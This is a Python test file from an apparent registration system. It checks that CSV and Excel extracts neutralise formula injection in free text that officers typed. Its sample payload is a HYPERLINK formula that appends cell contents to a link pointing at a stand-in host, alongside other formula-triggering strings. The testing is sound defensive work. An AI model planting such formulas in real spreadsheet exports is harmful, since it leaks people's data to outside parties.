"""Extracts that reach a spreadsheet must not run what officers typed: text that a spreadsheet reads as a
formula is made inert, while phone numbers and other values stay as they are."""
import csv
from datetime import date

from openpyxl import load_workbook

from registry.extensions import db
from registry.statistics.extracts import spreadsheet_safe
from registry.statistics.microdata import Disclosure, MicrodataRequest, write_full_extract
from registry.statistics.tables import date_range
from tests.conftest import user
from tests.support.factories import create_registration

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'


def test_formulas_are_made_inert_and_other_values_are_not_touched():
    assert spreadsheet_safe(EVIL) == "'" + EVIL
    for dangerous in ("+SUM(A1:A9)", "-2+3", "@cmd", "\t=1"):
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    for harmless in ("+263772123456", "-12", "Mopani Citrus", "", 42, date(2026, 1, 1), None):
        assert spreadsheet_safe(harmless) == harmless


def test_the_full_extract_neutralises_typed_formulas_in_csv_and_xlsx(ctx, officer, tmp_path):
    registration = create_registration(actor=officer, today=date(2026, 3, 2))
    # Free text as an officer could have typed it (the form keeps it as typed).
    registration.employer_name, registration.has_job_offer = EVIL, True
    db.session.commit()
    request = MicrodataRequest(date_range(date(2026, 1, 1), date(2026, 12, 31)))
    agreement = Disclosure("IOM Zimbabwe", "return support", "MoU 2026/04")
    write_full_extract(request, agreement, tmp_path / "full.csv", user("admin"))
    write_full_extract(request, agreement, tmp_path / "full.xlsx", user("admin"), file_format="xlsx")
    db.session.commit()

    with open(tmp_path / "full.csv", newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["employer"] == "'" + EVIL and row["phone"].startswith("+263")
    sheet = load_workbook(tmp_path / "full.xlsx").worksheets[0]
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, [cell.value for cell in sheet[2]]))
    assert values["employer"] == "'" + EVIL and sheet.cell(2, header.index("employer") + 1).data_type == "s"
    assert values["phone"] == row["phone"]
